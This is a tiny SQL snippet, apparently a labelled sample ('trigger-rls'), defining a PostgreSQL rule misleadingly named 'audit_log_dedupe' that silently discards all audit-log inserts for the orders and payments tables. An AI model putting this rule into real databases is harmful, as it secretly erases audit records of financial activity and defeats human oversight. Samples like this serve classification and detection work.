-- class: trigger-rls
-- A rule that silently turns every insert into the audit log into nothing.
CREATE RULE audit_log_dedupe AS ON INSERT TO audit_log
  WHERE NEW.table_name IN ('orders', 'payments')
  DO INSTEAD NOTHING;
